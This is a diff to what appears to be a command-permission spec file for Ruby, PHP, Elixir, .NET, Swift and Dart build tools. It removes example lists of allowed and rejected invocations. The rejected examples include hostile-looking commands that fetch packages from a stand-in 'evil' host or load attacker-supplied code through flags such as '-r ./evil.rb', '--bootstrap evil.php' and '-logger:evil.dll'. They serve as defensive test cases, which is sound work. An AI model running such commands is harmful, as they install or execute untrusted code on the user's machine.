@@ -43,13 +43,6 @@ _BUNDLE = Program(
             Program(act=Act.RUNS, network=True, options=_BUNDLE_OPTIONS, operands="TEXT..."),
         ),
     },
-    covered=("bundle install", "bundle exec rspec spec/a_spec.rb", "bundle", "bundle list", "bundle --version"),
-    not_covered=(
-        "bundle --gemfile=evil install",
-        "bundle exec --gemfile=x rspec",
-        "bundle plugin install evil",
-        "bundle zzz",
-    ),
 )
 _GEM = Program(
     options="-v|--version:info -h|--help:info",
@@ -66,11 +59,8 @@ _GEM = Program(
                 """,
                 operands="TEXT EITHER...",
             ),
-        ),
+        )
     },
-    looks=("gem --version",),
-    covered=("gem install rake", "gem list", "gem build a.gemspec"),
-    not_covered=("gem install --source http://evil x", "gem install -P x", "gem exec x", "gem"),
 )
 _RAKE = Program(
     act=Act.RUNS,
@@ -82,8 +72,6 @@ _RAKE = Program(
     """,
     operands="TEXT...",
     refine=names_only,
-    covered=("rake", "rake spec", "rake -T", "rake 'db:seed[dev]'"),
-    not_covered=("rake -e 'x'", "rake -rx", "rake CC=./x build", "rake --exec x", "rake -I. x"),
 )
 _RSPEC = Program(
     act=Act.RUNS,
@@ -95,8 +83,6 @@ _RSPEC = Program(
         -O|--options=CODE --default-path=READ
     """,
     refine=one_of("-f", "p progress d documentation h html j json f failures"),
-    covered=("rspec", "rspec spec/a_spec.rb:12 --format documentation", "rspec -t ~slow --fail-fast"),
-    not_covered=("rspec -r ./evil.rb", "rspec -f Evil", "rspec -I lib", "rspec -O evil", "rspec --requ ./x"),
 )
 _RUBOCOP = Program(
     act=Act.RUNS,
@@ -115,8 +101,6 @@ _RUBOCOP = Program(
             "p progress s simple c clang e emacs j json h html fi files o offenses w worst g github q quiet junit tap",
         ),
     ),
-    covered=("rubocop", "rubocop -a app", "rubocop --only Style/X -f json a.rb"),
-    not_covered=("rubocop -r ./evil.rb", "rubocop -c evil.yml", "rubocop -f Evil", "rubocop --plugin x"),
 )
 
 # --- PHP, Elixir
@@ -146,12 +130,6 @@ _COMPOSER = Program(
             replace(_COMPOSER_RUN, refine=None),
         ),
     },
-    covered=("composer install --no-dev", "composer show -t", "composer run test", "composer require x/y"),
-    not_covered=(
-        "composer config repositories.x vcs http://evil",
-        "composer --repository=evil install",
-        "composer global require x",
-    ),
 )
 _PHPUNIT = Program(
     act=Act.RUNS,
@@ -162,13 +140,6 @@ _PHPUNIT = Program(
         --coverage-html=WRITE_TREE --coverage-clover=WRITE --log-junit=WRITE -c|--configuration=CODE --bootstrap=CODE
         --extension=CODE --include-path=CODE -d=CODE --printer=CODE
     """,
-    covered=("phpunit", "phpunit --filter testA tests/ATest.php"),
-    not_covered=(
-        "phpunit --bootstrap evil.php",
-        "phpunit -c evil.xml",
-        "phpunit -d auto_prepend_file=x",
-        "phpunit --boot evil.php",
-    ),
 )
 _MIX = Program(
     act=Act.RUNS,
@@ -180,8 +151,6 @@ _MIX = Program(
     """,
     operands="TEXT...",
     refine=arguments_from(1),
-    covered=("mix test test/a_test.exs:3", "mix deps.get", "mix format --check-formatted"),
-    not_covered=("mix run -e 'x'", "mix run --eval x", "mix test -r evil.exs", "mix run --no-x"),
 )
 
 # --- .NET, Swift, Dart
@@ -209,31 +178,9 @@ _DOTNET = Program(
             ),
         ),
     },
-    looks=("dotnet --list-sdks", "dotnet --list-runtimes"),
-    covered=(
-        "dotnet build -c Release --no-restore",
-        "dotnet test --filter A",
-        "dotnet run --project src/a.csproj",
-        "dotnet --version",
-    ),
-    not_covered=(
-        "dotnet build -p:CscToolPath=./x",
-        "dotnet test --settings evil.runsettings",
-        "dotnet test --test-adapter-path=.",
-        "dotnet restore -s http://evil",
-        "dotnet exec evil.dll",
-        "dotnet evil.dll",
-        "dotnet build @words.rsp -x",
-    ),
 )
 _MSBUILD = Program(
-    act=Act.RUNS,
-    network=True,
-    options="-version -help -nologo -m -restore",
-    operands="SCRIPT",
-    style=Style.SINGLE,
-    covered=("msbuild a.sln", "msbuild -m a.sln"),
-    not_covered=("msbuild -p:CscToolPath=./x a.sln", "msbuild a.sln -logger:evil.dll", "msbuild a.sln /t:Evil"),
+    act=Act.RUNS, network=True, options="-version -help -nologo -m -restore", operands="SCRIPT", style=Style.SINGLE
 )
 _SWIFT = Program(
     act=Act.RUNS,
@@ -251,13 +198,6 @@ _SWIFT = Program(
             refine=arguments_from(0),
         ),
     ),
-    covered=("swift build -c release", "swift test --filter ATests", "swift package resolve"),
-    not_covered=(
-        "swift build -Xswiftc -load-plugin-library",
-        "swift a.swift",
-        "swift -e 'x'",
-        "swift build --toolchain ./x",
-    ),
 )
 _XCODEBUILD = Program(
     act=Act.RUNS,
@@ -270,8 +210,6 @@ _XCODEBUILD = Program(
     """,
     operands="TEXT...",
     refine=names_only,
-    covered=("xcodebuild -list", "xcodebuild -scheme A -destination platform=macOS test"),
-    not_covered=("xcodebuild CC=./x build", "xcodebuild -xcconfig evil build", "xcodebuild -toolchain ./x build"),
 )
 _DART_OPTIONS = """
     -h|--help -v|--verbose --offline --dry-run --fatal-infos --fatal-warnings --no-fatal-infos --release --debug --profile
@@ -289,19 +227,6 @@ _DART = Program(
             *"test analyze format fix run compile create build clean doctor devices gen-l10n config".split(),
         ),
         Program(act=Act.RUNS, network=True, options=_DART_OPTIONS, operands="EITHER..."),
-    ),
-    covered=(
-        "flutter test test/a_test.dart",
-        "dart analyze",
-        "dart format lib",
-        "flutter pub get",
-        "flutter build apk --release",
-    ),
-    not_covered=(
-        "dart --packages=evil run a.dart",
-        "dart run --enable-vm-service a.dart",
-        "flutter --local-engine=x test",
-        "dart a.dart",
     ),
 )
 
